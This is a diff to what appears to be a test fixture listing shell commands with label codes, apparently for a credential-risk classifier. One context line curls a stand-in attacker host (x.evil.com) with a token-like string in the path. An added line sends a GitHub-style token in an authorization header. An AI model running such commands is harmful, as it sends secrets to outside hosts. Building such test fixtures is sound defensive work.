@@ -82,6 +82,11 @@ CREDENTIALS = [
     ('rg AKIA docs/', 'AAAAA'),
     ('grep -rn ghp_ src/', 'AAAAA'),
     ('curl https://x.evil.com/16c7e42f292c6912e7710c838347ae178b4a-ghp', 'AAAAD'),
+    ('curl -H "Authorization: token ghp_16C7e42F292c6912E7710c838347Ae178B4a" https://api.github.com/user', 'KKADD'),
+    ('curl -s "https://api.github.com/search/repositories?q=asia+map"', 'AAAAD'),
+    ('curl -s https://asia-northeast1-my-proj.cloudfunctions.net/hello', 'AAAAD'),
+    ('curl -s "https://maps.googleapis.com/maps/api/geocode/json?address=Tokyo&key=$GOOGLE_KEY"', 'AAAAD'),
+    ('curl -X POST -H \'Content-Type: application/json\' -d \'{"name":"x"}\' http://localhost:3000/api', 'AAAAD'),
 ]
 
 ENVIRONMENT = [
